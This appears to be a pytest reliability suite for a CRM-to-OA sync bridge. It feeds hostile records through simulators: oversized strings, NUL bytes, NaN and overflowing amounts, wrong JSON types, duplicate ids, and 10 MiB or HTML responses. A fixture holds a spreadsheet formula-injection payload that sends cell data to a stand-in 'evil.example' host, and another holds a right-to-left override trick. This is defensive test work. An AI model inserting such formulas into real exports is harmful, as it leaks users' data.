"""Hostile input: every bad record is quarantined or refused, the run completes, memory stays bounded.

Through the real HTTP path (CRM simulator → CrmHook → engine → OA simulator):
missing fields, 1 MB strings, NUL bytes, NaN / Infinity / overflowing
amounts, emoji and right-to-left text (valid data: sent unchanged), formula
strings (sent as inert text: the OA is not a spreadsheet; the report and
migration exports neutralise them, ``tests/report``, ``tests/migration``).
Wrong JSON types and a duplicate id inside one page cannot come out of the
simulator (HubSpot values are strings): they are put into the pages between
the hook and the engine. HTML with status 200 and 10 MB bodies come from the
simulators' fault rules. The growth of this process's resident memory over
each case is measured.
"""

from __future__ import annotations

from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from tests.reliability.reliability_support import (
    PeakRss,
    c2o_cycle,
    c2o_setup,
    fired_rules,
    oa_instances,
    open_quarantine,
    per_deal,
    say,
    watermark,
)
from tests.reliability.test_reliability_crash import c2o_world
from tests.sync.sync_c2o_world import C2O
from tests.sync.sync_o2c_world import O2C

from bridge.hooks.errors import BadResponseError

MB = 1024 * 1024
ONE_MIB_TEXT = "长" * (MB // 3)  # 1 MiB of UTF-8
FORMULA = '=HYPERLINK("http://evil.example/x?d="&A1,"点击查看")'
EMOJI_RTL = "🚀智慧园区 مشروع ‮evil‬ עברית 👩‍💻"


def _quarantine_reasons(w: C2O) -> dict[str, str]:
    return {q["source_id"]: q["reason_code"] for q in open_quarantine(w)}


def test_hostile_crm_records_are_quarantined_and_the_rest_is_sent(c2o: C2O) -> None:
    w = c2o_world(c2o)
    work = c2o_setup(w, linked=0)
    company = w.create_company(name=EMOJI_RTL + "有限公司", uscc="91110000000000123X")
    w.create_contact(company)
    base = work.companies[0]
    bad = {
        "no_amount": w.create_deal(base, stage="contractsent", amount=""),
        "no_name": w.create_deal(base, stage="contractsent", dealname=""),
        "one_mb_name": w.create_deal(base, stage="contractsent", dealname=ONE_MIB_TEXT),
        "nul_byte": w.create_deal(base, stage="contractsent", dealname="项目\x00名称"),
        "nan_amount": w.create_deal(base, stage="contractsent", amount="NaN"),
        "infinite_amount": w.create_deal(base, stage="contractsent", amount="Infinity"),
        "overflow_amount": w.create_deal(base, stage="contractsent", amount="1e400"),
        "huge_amount": w.create_deal(base, stage="contractsent", amount="9" * 40),
    }
    good = {
        "emoji_rtl": w.create_deal(company, stage="contractsent", dealname=EMOJI_RTL),
        "formula": w.create_deal(base, stage="contractsent", dealname=FORMULA),
        "plain": w.create_deal(base, stage="contractsent", dealname="正常项目"),
    }
    with PeakRss() as rss:
        c2o_cycle(w)
        c2o_cycle(w)
    projects = {str(i["widgets"]["deal_id"]): i for i in oa_instances(w, "project_initiation")}
    held = _quarantine_reasons(w)
    for name, deal in bad.items():
        assert deal not in projects, f"{name}: sent to the OA"
        assert deal in held, f"{name}: neither sent nor quarantined (lost)"
    assert set(projects) == set(good.values()), "every good deal sent, once"
    assert projects[good["emoji_rtl"]]["widgets"]["project_name"] == EMOJI_RTL, "emoji / RTL text unchanged"
    assert projects[good["emoji_rtl"]]["widgets"]["customer_name"] == EMOJI_RTL + "有限公司"
    assert projects[good["formula"]]["widgets"]["project_name"] == FORMULA, "a formula string is only text here"
    assert w.pending() == []
    assert rss.growth < 150, f"resident memory grew {rss.growth:.0f} MiB over a 1 MiB record"
    say("hostile CRM records", {"bad_records": len(bad), "kinds": ",".join(bad), "valid_odd_text": len(good)},
        {"quarantined": {k: held[v] for k, v in bad.items()}, "sent": len(projects), "lost": 0,
         "rss_growth_mib": round(rss.growth, 1)})


def test_a_page_of_several_one_mb_records_does_not_block_the_sync(c2o: C2O) -> None:
    """Six deals with a 1 MiB name make a search page bigger than the hook's 5 MiB answer cap: the hook
    reads that range in smaller pages instead of failing every run on the same page."""
    w = c2o_world(c2o)
    work = c2o_setup(w, linked=0)
    big = [w.create_deal(work.companies[0], stage="contractsent", dealname=ONE_MIB_TEXT) for _ in range(6)]
    fine = [w.create_deal(work.companies[0], stage="contractsent", dealname=f"正常项目{n}") for n in range(20)]
    with PeakRss() as rss:
        c2o_cycle(w)
        c2o_cycle(w)
    per = per_deal(oa_instances(w, "project_initiation"))
    held = _quarantine_reasons(w)
    assert per == Counter(fine), "the good deals of the same pages are sent"
    assert {held.get(d) for d in big} == {"hostile_input"}, "the 1 MiB names are quarantined"
    assert rss.growth < 200, f"resident memory grew {rss.growth:.0f} MiB"
    say("page over the body cap", {"one_mib_records_in_a_page": len(big), "other_records": len(fine)},
        {"sent": sum(per.values()), "quarantined_hostile_input": len(big), "rss_growth_mib": round(rss.growth, 1)})


def _poisoned(pages: Iterator[list[dict[str, Any]]], targets: dict[str, Any]) -> Iterator[list[dict[str, Any]]]:
    """Pages as a broken proxy or vendor bug could deliver them: wrong JSON types, a duplicate id."""
    for page in pages:
        out = []
        for obj in page:
            oid = str(obj.get("id"))
            change = targets.get(oid)
            if change == "duplicate":
                older = {**obj, "properties": {**obj["properties"], "amount": "1.00"}}
                out.append(older)  # the same id twice in one page, the older version first
                out.append(obj)
                continue
            if change is not None:
                obj = {**obj, "properties": {**obj["properties"], **change}}
            out.append(obj)
        yield out


def test_wrong_types_and_a_duplicate_id_in_one_page(c2o: C2O) -> None:
    w = c2o_world(c2o)
    work = c2o_setup(w, linked=0)
    deals = [w.create_deal(work.companies[0], stage="contractsent", amount=f"{70_000 + n}.00",
                           dealname=f"类型测试项目{n}") for n in range(8)]
    targets: dict[str, Any] = {
        deals[0]: {"amount": [1, 2]},
        deals[1]: {"dealname": {"zh": "对象"}},
        deals[2]: {"dealstage": True},
        deals[3]: {"amount": float("nan")},
        deals[4]: {"closedate": 12},
        deals[5]: "duplicate",
    }
    original = w.crm.iter_changed

    def iter_changed(object_type: str, *args: Any, **kw: Any) -> Iterator[list[dict[str, Any]]]:
        pages = original(object_type, *args, **kw)
        return _poisoned(pages, targets) if object_type == "deals" else pages

    w.crm.iter_changed = iter_changed  # type: ignore[method-assign]
    c2o_cycle(w)
    c2o_cycle(w)
    projects = {str(i["widgets"]["deal_id"]): i for i in oa_instances(w, "project_initiation")}
    held = _quarantine_reasons(w)
    for deal in deals[:5]:
        assert deal in held or deal in projects, f"deal {deal} lost"
        assert deal not in projects or held.get(deal) is None
    assert all(held.get(d) in ("hostile_input", "unmapped_value", "invalid_format") for d in deals[:4])
    assert per_deal(projects.values())[deals[5]] == 1, "a duplicate id in a page: one 立项申请"
    assert projects[deals[5]]["widgets"]["contract_amount"] == 70_005.0, "the newer version of the duplicate"
    assert all(projects[d] for d in deals[6:])
    say("wrong JSON types and a duplicate id", {"wrong_types": 5, "duplicate_ids_in_page": 1},
        {"quarantined": {d[-3:]: held.get(d) for d in deals[:5]}, "duplicate_sent_once": True, "lost": 0})


@pytest.mark.parametrize("kind", ["html_200", "big_body"])
def test_proxy_pages_and_10_mb_bodies_are_refused_and_the_next_run_reads_everything(c2o: C2O, kind: str) -> None:
    w = c2o_world(c2o)
    work = c2o_setup(w, linked=0)
    deals = [w.create_deal(work.companies[0], stage="contractsent", dealname=f"代理故障项目{n}") for n in range(5)]
    mark = watermark(w, "crm.deal")
    # Every deal search answers garbage (HTML with status 200, or 10 MiB): refused, the extract stops.
    w.sims.crm.admin("POST", "/_sim/faults", {"kind": kind, "path": "/deals/search$", "size_bytes": 10 * MB})
    w.tick(1)
    with PeakRss() as rss, pytest.raises(BadResponseError) as refused:
        w.extract()
    answered = sum(r["fired"] for r in fired_rules(w.sims.crm))
    assert watermark(w, "crm.deal") == mark, "a refused page moves no watermark"
    w.sims.crm.admin("DELETE", "/_sim/faults")
    c2o_cycle(w)
    c2o_cycle(w)
    assert per_deal(oa_instances(w, "project_initiation")) == Counter(deals)
    assert rss.growth < 60, f"resident memory grew {rss.growth:.0f} MiB on a refused 10 MiB answer"
    say(f"{kind} on the CRM search", {"fault": kind, "body_mib": 10 if kind == "big_body" else 0},
        {"refused_with": type(refused.value).__name__, "garbage_answers_until_refused": answered,
         "watermark_moved": False, "next_run_sent": len(deals), "rss_growth_mib": round(rss.growth, 1)})


def test_hostile_oa_forms_are_quarantined_and_odd_text_reaches_the_crm_unchanged(o2c: O2C) -> None:
    company, _ = o2c.c2o.customer()
    odd = o2c.expense(company, amount=88)
    o2c.act("approve", odd)
    hostile = {
        "one_mb_reason": o2c.submit("expense_claim", reason=ONE_MIB_TEXT, expense_type="交通", amount=12,
                                    customer_id=company, expense_date="2026-11-20T00:00:00+08:00"),
        "nul_reason": o2c.submit("expense_claim", reason="交通\x00费", expense_type="交通", amount=12,
                                 customer_id=company, expense_date="2026-11-20T00:00:00+08:00"),
        "overflow_amount": o2c.submit("expense_claim", reason="金额溢出", expense_type="交通", amount=999_999_999_999_999,
                                      customer_id=company, expense_date="2026-11-20T00:00:00+08:00"),
    }
    text = o2c.submit("expense_claim", reason=EMOJI_RTL + FORMULA, expense_type="交通", amount=66,
                      customer_id=company, expense_date="2026-11-20T00:00:00+08:00")
    poison = o2c.expense(company, amount=77)
    for code in [*hostile.values(), text, poison]:
        o2c.act("approve", code)
    # One instance whose detail always comes back as 10 MiB: refused unread, it must not stop the others.
    o2c.sims.oa.admin("POST", "/_sim/faults", {"kind": "big_body", "path": f"/instances/{poison}$", "method": "GET",
                                               "size_bytes": 10 * MB})
    with PeakRss() as rss:
        o2c.sync()
        o2c.sync()
    o2c.sims.oa.admin("DELETE", "/_sim/faults")
    hostile["ten_mib_detail"] = poison
    notes = {n["properties"].get("oa_instance_code"): n["properties"] for n in o2c.objects("notes")}
    held = {name: o2c.quarantine("expense_claim", code) for name, code in hostile.items()}
    for name, code in hostile.items():
        assert code not in notes, f"{name} reached the CRM"
        assert held[name] is not None, f"{name}: neither written nor quarantined"
    assert set(notes) == {odd, text}
    assert EMOJI_RTL + FORMULA in notes[text]["oa_purpose"], "odd but valid text arrives unchanged"
    assert rss.growth < 150, f"resident memory grew {rss.growth:.0f} MiB"
    say("hostile OA forms", {"bad_forms": len(hostile) - 1, "detail_of_10_mib": 1, "odd_valid_text": 1},
        {"quarantined": {k: v.reason_code for k, v in held.items() if v}, "notes": len(notes), "lost": 0,
         "rss_growth_mib": round(rss.growth, 1)})
